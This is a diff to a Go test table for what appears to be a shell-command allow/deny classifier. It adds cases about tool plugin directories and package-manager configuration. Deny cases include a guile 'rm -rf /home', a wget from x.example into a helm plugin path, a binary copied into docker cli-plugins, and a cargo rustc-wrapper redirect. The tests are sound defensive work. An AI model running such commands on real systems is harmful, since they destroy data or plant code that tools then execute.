@@ -161,6 +161,13 @@ var classTests8More = []struct {
 	{`guile -c '(system* "rm" "-rf" "/home")'`, Deny},
 	{"gnuplot -e \"set terminal png; set output 'out.png'\" plot.gp", Allow},
 	{`guile -c '(display (+ 1 2))'`, Allow},
+	// Directories whose programs a tool runs as its own, and configuration
+	// that says where a package manager fetches from.
+	{"wget -qO ~/.local/share/helm/plugins/x/run.sh https://x.example/r", Deny},
+	{"cp ./docker-buildx ~/.docker/cli-plugins/", Deny},
+	{`printf '[build]\nrustc-wrapper = "/tmp/w"\n' > ~/.cargo/config.toml`, Deny},
+	{"cat ~/.docker/config.json.example > /dev/null; ls ~/.docker/cli-plugins", Allow},
+	{"curl -so build/docker-compose https://x.example/dc && sha256sum build/docker-compose", Allow},
 }
 
 func TestClasses8More(t *testing.T) {
